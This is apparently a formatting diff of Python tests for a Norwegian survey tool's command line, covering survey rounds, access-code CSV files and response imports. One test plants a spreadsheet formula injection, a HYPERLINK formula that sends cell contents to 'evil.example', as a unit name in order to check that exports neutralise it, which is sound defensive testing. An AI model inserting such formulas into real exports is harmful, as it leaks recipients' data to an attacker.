@@ -13,8 +13,21 @@ from tests.collector import factories, helpers, pdftext
 
 
 def create(runner, *extra):
-    return runner.invoke(args=["campaign", "create", "--questionnaire", "test", "--unit", "4601-helse-hjemme",
-                               "--opens", "2026-01-01", "--closes", "2099-03-31", *extra])
+    return runner.invoke(
+        args=[
+            "campaign",
+            "create",
+            "--questionnaire",
+            "test",
+            "--unit",
+            "4601-helse-hjemme",
+            "--opens",
+            "2026-01-01",
+            "--closes",
+            "2099-03-31",
+            *extra,
+        ]
+    )
 
 
 def test_campaign_create_prints_the_round_id_alone(runner, tree):
@@ -23,7 +36,10 @@ def test_campaign_create_prints_the_round_id_alone(runner, tree):
     assert result.exit_code == 0, result.output
     campaign = db.session.scalars(select(Campaign)).one()
     assert result.stdout.strip() == str(campaign.id)
-    assert sorted(cu.unit.code for cu in campaign.units) == ["4601-helse-hjemme", "4601-helse-sykehjem"]
+    assert sorted(cu.unit.code for cu in campaign.units) == [
+        "4601-helse-hjemme",
+        "4601-helse-sykehjem",
+    ]
 
 
 def test_campaign_create_reads_dates_as_norwegian_days(runner, tree):
@@ -47,8 +63,19 @@ def test_campaign_create_with_codes_writes_them_to_a_csv_file(runner, tree, tmp_
     factories.make_questionnaire()
     out = tmp_path / "koder.csv"
     letters = tmp_path / "brev.pdf"
-    result = create(runner, "--unit", "4601-helse-sykehjem", "--codes", "3", "--codes-file", str(out),
-                    "--letters", str(letters), "--base-url", "https://svar.kommune.no")
+    result = create(
+        runner,
+        "--unit",
+        "4601-helse-sykehjem",
+        "--codes",
+        "3",
+        "--codes-file",
+        str(out),
+        "--letters",
+        str(letters),
+        "--base-url",
+        "https://svar.kommune.no",
+    )
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
     assert len(rows) == 6
@@ -82,8 +109,21 @@ def test_campaign_create_refuses_an_unknown_questionnaire_or_unit(runner, tree):
 def test_campaign_codes_adds_codes_for_one_unit(runner, tmp_path, tree):
     open_round = factories.make_open_round(tree)
     out = tmp_path / "flere.csv"
-    result = runner.invoke(args=["campaign", "codes", str(open_round.campaign.id), "--unit", "4601-helse-hjemme",
-                                 "--count", "5", "--out", str(out), "--base-url", "https://svar.kommune.no"])
+    result = runner.invoke(
+        args=[
+            "campaign",
+            "codes",
+            str(open_round.campaign.id),
+            "--unit",
+            "4601-helse-hjemme",
+            "--count",
+            "5",
+            "--out",
+            str(out),
+            "--base-url",
+            "https://svar.kommune.no",
+        ]
+    )
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
     assert len(rows) == 5 and rows[0]["address"] == "https://svar.kommune.no/svar"
@@ -96,8 +136,19 @@ def test_campaign_codes_never_overwrites_a_file(runner, tmp_path, tree):
     open_round = factories.make_open_round(tree)
     out = tmp_path / "koder.csv"
     out.write_text("earlier codes")
-    result = runner.invoke(args=["campaign", "codes", str(open_round.campaign.id), "--unit", "4601-helse-hjemme",
-                                 "--count", "5", "--out", str(out)])
+    result = runner.invoke(
+        args=[
+            "campaign",
+            "codes",
+            str(open_round.campaign.id),
+            "--unit",
+            "4601-helse-hjemme",
+            "--count",
+            "5",
+            "--out",
+            str(out),
+        ]
+    )
     assert result.exit_code == 1
     assert out.read_text() == "earlier codes"
     assert db.session.scalar(select(func.count()).select_from(Invitation)) == 3
@@ -105,8 +156,19 @@ def test_campaign_codes_never_overwrites_a_file(runner, tmp_path, tree):
 
 def test_campaign_codes_refuses_a_unit_outside_the_round(runner, tmp_path, tree):
     open_round = factories.make_open_round(tree)
-    result = runner.invoke(args=["campaign", "codes", str(open_round.campaign.id), "--unit", "4601-oppvekst-skole",
-                                 "--count", "5", "--out", str(tmp_path / "x.csv")])
+    result = runner.invoke(
+        args=[
+            "campaign",
+            "codes",
+            str(open_round.campaign.id),
+            "--unit",
+            "4601-oppvekst-skole",
+            "--count",
+            "5",
+            "--out",
+            str(tmp_path / "x.csv"),
+        ]
+    )
     assert result.exit_code == 1
     assert "not part of this round" in result.output
     assert not (tmp_path / "x.csv").exists()
@@ -114,8 +176,12 @@ def test_campaign_codes_refuses_a_unit_outside_the_round(runner, tmp_path, tree)
 
 def test_campaign_status_as_json_gives_population_responses_and_rate_per_unit(runner, tree):
     open_round = factories.make_open_round(tree)
-    helpers.answer_with_code(runner.app.test_client(), open_round.questionnaire, open_round.codes[0])
-    result = runner.invoke(args=["campaign", "status", str(open_round.campaign.id), "--format", "json"])
+    helpers.answer_with_code(
+        runner.app.test_client(), open_round.questionnaire, open_round.codes[0]
+    )
+    result = runner.invoke(
+        args=["campaign", "status", str(open_round.campaign.id), "--format", "json"]
+    )
     assert result.exit_code == 0, result.output
     data = json.loads(result.stdout)
     assert data["state"] == "open"
@@ -133,7 +199,10 @@ def test_campaign_status_of_an_unknown_round_fails(runner, app):
 def test_campaign_extend_and_close(runner, tree):
     open_round = factories.make_open_round(tree)
     campaign_id = str(open_round.campaign.id)
-    assert runner.invoke(args=["campaign", "extend", campaign_id, "--closes", "2099-12-31"]).exit_code == 0
+    assert (
+        runner.invoke(args=["campaign", "extend", campaign_id, "--closes", "2099-12-31"]).exit_code
+        == 0
+    )
     db.session.refresh(open_round.campaign)
     assert open_round.campaign.closes_at == parse_local("2100-01-01")
     assert runner.invoke(args=["campaign", "close", campaign_id]).exit_code == 0
@@ -151,7 +220,9 @@ def test_campaign_list_shows_every_round(runner, tree):
 def test_responses_import_stores_paper_answers(runner, tmp_path, tree):
     open_round = factories.make_open_round(tree)
     file = tmp_path / "papir.csv"
-    file.write_text("unit,s1q1,x_multiple\n4601-helse-hjemme,5,\"a;b\"\n4601-helse-hjemme,dk,\n", encoding="utf-8")
+    file.write_text(
+        'unit,s1q1,x_multiple\n4601-helse-hjemme,5,"a;b"\n4601-helse-hjemme,dk,\n', encoding="utf-8"
+    )
     result = runner.invoke(args=["responses", "import", str(open_round.campaign.id), str(file)])
     assert result.exit_code == 0, result.output
     assert "Imported 2 responses" in result.output
@@ -161,7 +232,9 @@ def test_responses_import_stores_paper_answers(runner, tmp_path, tree):
 def test_responses_import_reports_every_error_and_imports_nothing(runner, tmp_path, tree):
     open_round = factories.make_open_round(tree)
     file = tmp_path / "papir.csv"
-    file.write_text("unit,s1q1,x_number\n4601-helse-hjemme,7,12\n4601-helse-hjemme,3,hundre\n", encoding="utf-8")
+    file.write_text(
+        "unit,s1q1,x_number\n4601-helse-hjemme,7,12\n4601-helse-hjemme,3,hundre\n", encoding="utf-8"
+    )
     result = runner.invoke(args=["responses", "import", str(open_round.campaign.id), str(file)])
     assert result.exit_code == 1
     assert "Line 2, column s1q1" in result.output
@@ -181,8 +254,20 @@ def test_purge_drafts_removes_open_link_drafts_of_closed_rounds(runner, tree):
 
 
 def issue_codes(runner, open_round, out, *extra):
-    return runner.invoke(args=["campaign", "codes", str(open_round.campaign.id), "--unit", "4601-helse-hjemme",
-                               "--count", "2", "--out", str(out), *extra])
+    return runner.invoke(
+        args=[
+            "campaign",
+            "codes",
+            str(open_round.campaign.id),
+            "--unit",
+            "4601-helse-hjemme",
+            "--count",
+            "2",
+            "--out",
+            str(out),
+            *extra,
+        ]
+    )
 
 
 def test_campaign_codes_without_a_public_address_refuses_and_issues_nothing(runner, tmp_path, tree):
@@ -216,7 +301,9 @@ def test_campaign_codes_prints_the_public_base_url(runner, tmp_path, tree):
     assert "Warning" not in result.output
 
 
-def test_campaign_codes_takes_a_loopback_base_url_when_asked_for_it_with_a_warning(runner, tmp_path, tree):
+def test_campaign_codes_takes_a_loopback_base_url_when_asked_for_it_with_a_warning(
+    runner, tmp_path, tree
+):
     open_round = factories.make_open_round(tree)
     out = tmp_path / "koder.csv"
     result = issue_codes(runner, open_round, out, "--base-url", "http://127.0.0.1:5055")
@@ -226,7 +313,9 @@ def test_campaign_codes_takes_a_loopback_base_url_when_asked_for_it_with_a_warni
     assert {r["address"] for r in rows} == {"http://127.0.0.1:5055/svar"}
 
 
-def test_campaign_create_with_codes_without_a_public_address_creates_nothing(runner, tmp_path, tree):
+def test_campaign_create_with_codes_without_a_public_address_creates_nothing(
+    runner, tmp_path, tree
+):
     factories.make_questionnaire()
     out = tmp_path / "koder.csv"
     result = create(runner, "--codes", "3", "--codes-file", str(out))
@@ -237,7 +326,9 @@ def test_campaign_create_with_codes_without_a_public_address_creates_nothing(run
     assert db.session.scalar(select(func.count()).select_from(Invitation)) == 0
 
 
-def test_the_mail_merge_file_from_the_command_line_shows_a_formula_unit_name_as_text(runner, tmp_path, tree):
+def test_the_mail_merge_file_from_the_command_line_shows_a_formula_unit_name_as_text(
+    runner, tmp_path, tree
+):
     open_round = factories.make_open_round(tree)
     name = '=HYPERLINK("https://evil.example/?"&A2;"Klikk her")'
     open_round.unit.name = name
@@ -259,7 +350,9 @@ def keys_in(data) -> set[str]:
 
 def test_round_status_prints_the_same_as_campaign_status_as_text_and_json(runner, tree):
     open_round = factories.make_open_round(tree)
-    helpers.answer_with_code(runner.app.test_client(), open_round.questionnaire, open_round.codes[0])
+    helpers.answer_with_code(
+        runner.app.test_client(), open_round.questionnaire, open_round.codes[0]
+    )
     for extra in ([], ["--format", "json"]):
         new = runner.invoke(args=["round", "status", str(open_round.campaign.id), *extra])
         old = runner.invoke(args=["campaign", "status", str(open_round.campaign.id), *extra])
@@ -285,7 +378,9 @@ def test_round_close_closes_and_seals_and_campaign_close_then_answers_the_same(r
     assert result.exit_code == 0, result.output
     assert f"Round {round_id} is closed and sealed" in result.stdout
     db.session.refresh(open_round.campaign)
-    assert open_round.campaign.state().value == "closed" and open_round.campaign.sealed_at is not None
+    assert (
+        open_round.campaign.state().value == "closed" and open_round.campaign.sealed_at is not None
+    )
     again_new = runner.invoke(args=["round", "close", round_id])
     again_old = runner.invoke(args=["campaign", "close", round_id])
     assert again_new.exit_code == again_old.exit_code == 1
@@ -294,7 +389,11 @@ def test_round_close_closes_and_seals_and_campaign_close_then_answers_the_same(r
 
 def test_the_json_of_round_status_and_list_says_round_never_campaign(runner, tree):
     open_round = factories.make_open_round(tree)
-    status = json.loads(runner.invoke(args=["round", "status", str(open_round.campaign.id), "--format", "json"]).stdout)
+    status = json.loads(
+        runner.invoke(
+            args=["round", "status", str(open_round.campaign.id), "--format", "json"]
+        ).stdout
+    )
     listed = json.loads(runner.invoke(args=["round", "list", "--format", "json"]).stdout)
     assert not any("campaign" in key for key in keys_in(status) | keys_in(listed))
 
